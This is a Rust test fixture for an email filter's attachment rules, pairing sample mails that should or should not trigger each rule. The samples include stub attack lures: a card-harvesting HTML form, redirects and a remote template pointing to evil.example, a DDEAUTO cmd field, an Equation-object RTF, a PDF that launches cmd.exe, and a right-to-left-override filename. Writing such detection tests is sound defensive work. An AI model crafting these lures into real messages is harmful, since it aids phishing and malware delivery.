//! Mails for the rules about attached files.

use super::packed_files::{
    doc_macro, doc_own_template, doc_plain, doc_sheet, doc_template, one_plain, one_script, zip_bomb, zip_double,
    zip_locked, zip_notes, zip_out, zip_page, zip_program, zip_site, zip_zip,
};
use super::{Case, FactSet};

const MIXED: &str = "Content-Type: multipart/mixed; boundary=b";

macro_rules! with_file {
    ($type:literal, $name:literal, $body:literal) => {
        concat!(
            "--b\nContent-Type: text/plain\n\nsee file\n--b\nContent-Type: ",
            $type,
            "; name=\"",
            $name,
            "\"\nContent-Disposition: attachment; filename=\"",
            $name,
            "\"\n\n",
            $body,
            "\n--b--\n"
        )
    };
}

macro_rules! with_words {
    ($words:literal, $name:literal, $($body:tt)*) => {
        concat!(
            "--b\nContent-Type: text/plain; charset=utf-8\n\n",
            $words,
            "\n--b\nContent-Type: application/octet-stream; name=\"",
            $name,
            "\"\nContent-Disposition: attachment\nContent-Transfer-Encoding: base64\n\n",
            $($body)*,
            "\n--b--\n"
        )
    };
}

macro_rules! with_packed {
    ($name:literal, $($body:tt)*) => {
        with_words!("see file", $name, $($body)*)
    };
}

pub(super) const CASES: &[Case] = &[
    Case {
        rule: "html-attached",
        fires: &[
            (MIXED, with_file!("text/html", "invoice.html", "<html><p>see the bill</p></html>")),
            (MIXED, with_file!("text/html", "view.htm", "<!doctype html><script>x()</script>")),
        ],
        silent: &[
            (MIXED, with_file!("application/pdf", "invoice.pdf", "%PDF-1.4")),
            ("Content-Type: text/html", "<p>an ordinary body</p>"),
            (
                "List-Id: Talk <talk.lists.example>\nList-Post: <mailto:talk@lists.example>\nReturn-Path: <talk-bounces@lists.example>\nTo: talk@lists.example\nContent-Type: multipart/mixed; boundary=b",
                with_file!("text/html", "page.html", "<html><p>x</p></html>"),
            ),
            (MIXED, with_file!("image/svg+xml", "logo.svg", "<svg><path/></svg>")),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "form-attached",
        fires: &[(
            MIXED,
            with_file!(
                "text/html",
                "claim.html",
                "<html><form action='https://collect.test/a'><input name=card></form></html>"
            ),
        )],
        silent: &[
            (
                MIXED,
                with_file!("text/html", "invoice.html", "<html><form action=x><input type=password></form></html>"),
            ),
            (MIXED, with_file!("text/html", "report.html", "<html><body><h1>form</h1><input type=text></body></html>")),
            ("Content-Type: text/html", "<form action='https://www.example.com/poll'>an ordinary body</form>"),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "page-asks-password",
        fires: &[
            (
                MIXED,
                with_file!("text/html", "invoice.html", "<html><form action=x><input type=password></form></html>"),
            ),
            (MIXED, with_file!("text/html", "view.htm", "<html><body><INPUT TYPE=PASSWORD></body></html>")),
        ],
        silent: &[
            (MIXED, with_file!("text/html", "claim.html", "<html><form action=x><input name=card></form></html>")),
            (MIXED, with_file!("text/html", "help.html", "<html><p>Never type your password here.</p></html>")),
            ("Content-Type: text/html", "<form action=x><input type=password></form>"),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "page-builds-file",
        fires: &[
            (
                MIXED,
                with_file!(
                    "text/html",
                    "view.html",
                    "<html><script>var d=atob(window.data);var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download=1</script></html>"
                ),
            ),
            (MIXED, with_file!("text/html", "play.htm", "<html><body onload='location.href=atob(x)'></html>")),
        ],
        silent: &[
            (MIXED, with_file!("text/html", "report.html", "<html><script>document.title=new Date()</script></html>")),
            (MIXED, with_file!("text/html", "report.html", "<html><p>How to use atob( and Blob</p></html>")),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "page-leads-on",
        fires: &[(
            MIXED,
            with_file!(
                "text/html",
                "fax.html",
                "<html><meta http-equiv=refresh content='0;url=https://evil.example/'></html>"
            ),
        )],
        silent: &[
            (MIXED, with_file!("text/html", "report.html", "<html><meta http-equiv=refresh content=300></html>")),
            (MIXED, with_file!("text/html", "report.html", "<html><meta charset=utf-8><p>x</p></html>")),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "program-attached",
        fires: &[
            (MIXED, with_file!("application/octet-stream", "invoice.exe", "MZ")),
            (MIXED, with_file!("application/octet-stream", "viewer.msi", "x")),
        ],
        silent: &[
            (MIXED, with_file!("application/pdf", "invoice.pdf", "%PDF-1.4")),
            (MIXED, with_file!("text/plain", "report for example.com", "x")),
            (MIXED, with_file!("application/octet-stream", "invoice.pdf.exe", "MZ")),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "script-attached",
        fires: &[
            (MIXED, with_file!("text/plain", "run.vbs", "x")),
            (MIXED, with_file!("application/octet-stream", "order.hta", "<hta:application>")),
        ],
        silent: &[
            (MIXED, with_file!("text/plain", "build.py", "x")),
            (
                "List-Id: Talk <talk.lists.example>\nList-Post: <mailto:talk@lists.example>\nReturn-Path: <talk-bounces@lists.example>\nTo: talk@lists.example\nContent-Type: multipart/mixed; boundary=b",
                with_file!("text/plain", "widget.js", "x"),
            ),
            (MIXED, with_file!("text/plain", "readme.txt", "run.vbs")),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "shortcut-attached",
        fires: &[
            (MIXED, with_file!("application/octet-stream", "invoice.lnk", "x")),
            (MIXED, with_file!("text/plain", "open.url", "[InternetShortcut]\nURL=https://evil.example/")),
        ],
        silent: &[
            (MIXED, with_file!("application/pdf", "invoice.pdf", "%PDF-1.4")),
            (MIXED, with_file!("text/plain", "link.txt", "https://www.sender.example/")),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "disk-image-attached",
        fires: &[
            (MIXED, with_file!("application/octet-stream", "disk.iso", "x")),
            (MIXED, with_file!("application/octet-stream", "scan.img", "x")),
        ],
        silent: &[
            (MIXED, with_file!("application/octet-stream", "scan.tiff", "x")),
            (MIXED, with_packed!("files.zip", zip_notes!())),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "name-turned-around",
        fires: &[(MIXED, with_file!("application/octet-stream", "invoice\u{202e}fdp.exe", "MZ"))],
        silent: &[(MIXED, with_file!("application/pdf", "請求書.pdf", "%PDF-1.4"))],
        facts: FactSet::default,
    },
    Case {
        rule: "double-extension",
        fires: &[
            (MIXED, with_file!("application/octet-stream", "invoice.pdf.exe", "MZ")),
            (MIXED, with_file!("text/html", "scan.pdf.html", "x")),
            (MIXED, with_packed!("invoice.zip", zip_double!())),
        ],
        silent: &[
            (MIXED, with_file!("application/pdf", "invoice.2026.pdf", "%PDF-1.4")),
            (MIXED, with_file!("text/html", "page.html", "x")),
            (MIXED, with_packed!("invoice.zip", zip_program!())),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "ending-out-of-sight",
        fires: &[
            (MIXED, with_file!("application/octet-stream", "report                         .exe", "MZ")),
            (MIXED, with_file!("application/octet-stream", "run.exe...", "MZ")),
        ],
        silent: &[
            (MIXED, with_file!("application/pdf", "report of the year.pdf", "%PDF-1.4")),
            (MIXED, with_file!("application/pdf", "a                         .pdf", "%PDF-1.4")),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "attachment-type-lies",
        fires: &[(MIXED, with_file!("image/png", "photo.png", "<!DOCTYPE html><html><body>x</body></html>"))],
        silent: &[
            (MIXED, with_file!("text/plain", "notes.txt", "<!DOCTYPE html><html></html>")),
            (MIXED, with_file!("application/pdf", "a.pdf", "%PDF-1.4\n")),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "holds-program",
        fires: &[(MIXED, with_packed!("invoice.zip", zip_program!()))],
        silent: &[
            (MIXED, with_packed!("notes.zip", zip_notes!())),
            (
                "List-Id: Talk <talk.lists.example>\nList-Post: <mailto:talk@lists.example>\nReturn-Path: <talk-bounces@lists.example>\nTo: talk@lists.example\nContent-Type: multipart/mixed; boundary=b",
                with_packed!("tool.zip", zip_program!()),
            ),
            (MIXED, with_packed!("invoice.zip", zip_double!())),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "archive-holds-page",
        fires: &[(MIXED, with_packed!("invoice.zip", zip_page!()))],
        silent: &[
            (MIXED, with_packed!("site.zip", zip_site!())),
            (
                "Subject: Re: x\nIn-Reply-To: <1@example.org>\nContent-Type: multipart/mixed; boundary=b",
                with_packed!("invoice.zip", zip_page!()),
            ),
            (MIXED, with_packed!("notes.zip", zip_notes!())),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "archive-locked",
        fires: &[
            (MIXED, with_words!("The archive is locked. Password: rosebud7", "invoice.zip", zip_locked!())),
            (MIXED, with_words!("解凍パスワードは「rosebud7」です。", "invoice.zip", zip_locked!())),
        ],
        silent: &[
            (MIXED, with_words!("The password comes by phone.", "invoice.zip", zip_locked!())),
            (MIXED, with_words!("Password: rosebud7", "notes.zip", zip_notes!())),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "archive-in-archive",
        fires: &[(MIXED, with_packed!("a.zip", zip_zip!()))],
        silent: &[
            (MIXED, with_packed!("a.zip", zip_notes!())),
            (
                "Subject: Re: x\nIn-Reply-To: <1@example.org>\nContent-Type: multipart/mixed; boundary=b",
                with_packed!("a.zip", zip_zip!()),
            ),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "archive-bomb",
        fires: &[(MIXED, with_packed!("a.zip", zip_bomb!()))],
        silent: &[(MIXED, with_packed!("a.zip", zip_notes!()))],
        facts: FactSet::default,
    },
    Case {
        rule: "archive-leads-out",
        fires: &[(MIXED, with_packed!("a.zip", zip_out!()))],
        silent: &[(MIXED, with_packed!("a.zip", zip_notes!()))],
        facts: FactSet::default,
    },
    Case {
        rule: "macro-attached",
        fires: &[(MIXED, with_packed!("order.docm", doc_macro!())), (MIXED, with_packed!("order.docx", doc_macro!()))],
        silent: &[
            (MIXED, with_packed!("order.docx", doc_plain!())),
            (
                "Subject: Re: x\nIn-Reply-To: <1@example.org>\nContent-Type: multipart/mixed; boundary=b",
                with_packed!("order.docm", doc_macro!()),
            ),
            (MIXED, with_packed!("order.xlsm", doc_sheet!())),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "macro-starts-itself",
        fires: &[
            (MIXED, with_packed!("order.xlsm", doc_sheet!())),
            (MIXED, with_file!("application/rtf", "order.rtf", "{\\rtf1 {\\field{\\*\\fldinst DDEAUTO cmd}}}")),
        ],
        silent: &[(MIXED, with_packed!("order.docm", doc_macro!())), (MIXED, with_packed!("order.docx", doc_plain!()))],
        facts: FactSet::default,
    },
    Case {
        rule: "template-from-elsewhere",
        fires: &[
            (MIXED, with_packed!("order.docx", doc_template!())),
            (MIXED, with_file!("application/rtf", "order.rtf", "{\\rtf1{\\*\\template https://evil.example/t.dotm}}")),
        ],
        silent: &[
            (MIXED, with_packed!("order.docx", doc_own_template!())),
            (MIXED, with_packed!("order.docx", doc_plain!())),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "object-exploits",
        fires: &[
            (MIXED, with_file!("application/rtf", "order.rtf", "{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}")),
            (
                MIXED,
                with_file!(
                    "application/msword",
                    "order.doc",
                    "{\\rtf1{\\object{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300}}}"
                ),
            ),
        ],
        silent: &[
            (MIXED, with_file!("application/rtf", "letter.rtf", "{\\rtf1 a letter}")),
            (
                MIXED,
                with_file!(
                    "application/rtf",
                    "letter.rtf",
                    "{\\rtf1{\\object{\\*\\objdata 01050000020000000c000000576f72642e5069637475726500}}}"
                ),
            ),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "onenote-with-files",
        fires: &[(MIXED, with_packed!("notes.one", one_script!()))],
        silent: &[(MIXED, with_packed!("notes.one", one_plain!()))],
        facts: FactSet::default,
    },
    Case {
        rule: "pdf-starts-program",
        fires: &[(
            MIXED,
            with_file!(
                "application/pdf",
                "a.pdf",
                "%PDF-1.4\n1 0 obj\n<</Type/Page/OpenAction<</S/Launch/F(cmd.exe)>>>>\nendobj"
            ),
        )],
        silent: &[(MIXED, with_file!("application/pdf", "a.pdf", "%PDF-1.4\n1 0 obj\n<</Type/Page>>\nendobj"))],
        facts: FactSet::default,
    },
    Case {
        rule: "pdf-script",
        fires: &[(
            MIXED,
            with_file!(
                "application/pdf",
                "a.pdf",
                "%PDF-1.4\n1 0 obj\n<</OpenAction<</S/J#61vaScript/JS(app.alert\\(1\\))>>>>\nendobj"
            ),
        )],
        silent: &[(
            MIXED,
            with_file!("application/pdf", "a.pdf", "%PDF-1.4\n1 0 obj\n<</OpenAction[3 0 R/Fit]>>\nendobj"),
        )],
        facts: FactSet::default,
    },
    Case {
        rule: "pdf-only-link",
        fires: &[
            (
                MIXED,
                with_file!(
                    "application/pdf",
                    "doc.pdf",
                    "%PDF-1.4\n1 0 obj\n<</Type/Page/Annots[2 0 R]>>\nendobj\n2 0 obj\n<</Subtype/Link/A<</S/URI/URI(https://evil.example/x)>>>>\nendobj\n"
                ),
            ),
            // Proved to be a free address: nobody is proved by that.
            (
                "From: Anna <anna@gmail.com>\nReturn-Path: <anna@gmail.com>\nAuthentication-Results: mx.example.org; dkim=pass header.d=gmail.com\nContent-Type: multipart/mixed; boundary=b",
                with_file!(
                    "application/pdf",
                    "doc.pdf",
                    "%PDF-1.4\n1 0 obj\n<</Type/Page/Annots[2 0 R]>>\nendobj\n2 0 obj\n<</Subtype/Link/A<</S/URI/URI(https://evil.example/x)>>>>\nendobj\n"
                ),
            ),
        ],
        silent: &[
            (
                MIXED,
                with_file!(
                    "application/pdf",
                    "letter.pdf",
                    "%PDF-1.4\n1 0 obj\n<</Type/Page/Annots[2 0 R]>>\nendobj\n2 0 obj\n<</A<</S/URI/URI(https://www.sender.example/)>>>>\nendobj\n3 0 obj\n<</Length 390>>\nstream\nBT (words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter ) Tj ET\nendstream\nendobj\n"
                ),
            ),
            (
                "Subject: Re: x\nIn-Reply-To: <1@example.org>\nContent-Type: multipart/mixed; boundary=b",
                with_file!(
                    "application/pdf",
                    "doc.pdf",
                    "%PDF-1.4\n1 0 obj\n<</Type/Page/Annots[2 0 R]>>\nendobj\n2 0 obj\n<</Subtype/Link/A<</S/URI/URI(https://evil.example/x)>>>>\nendobj\n"
                ),
            ),
        ],
        facts: FactSet::default,
    },
    Case {
        rule: "container-attached",
        fires: &[
            (MIXED, with_packed!("files.zip", zip_notes!())),
            (MIXED, with_file!("application/octet-stream", "files.rar", "x")),
        ],
        silent: &[
            (MIXED, with_file!("application/pdf", "invoice.pdf", "%PDF-1.4")),
            (
                "Subject: Re: x\nIn-Reply-To: <1@example.org>\nContent-Type: multipart/mixed; boundary=b",
                with_packed!("files.zip", zip_notes!()),
            ),
        ],
        facts: FactSet::default,
    },
];
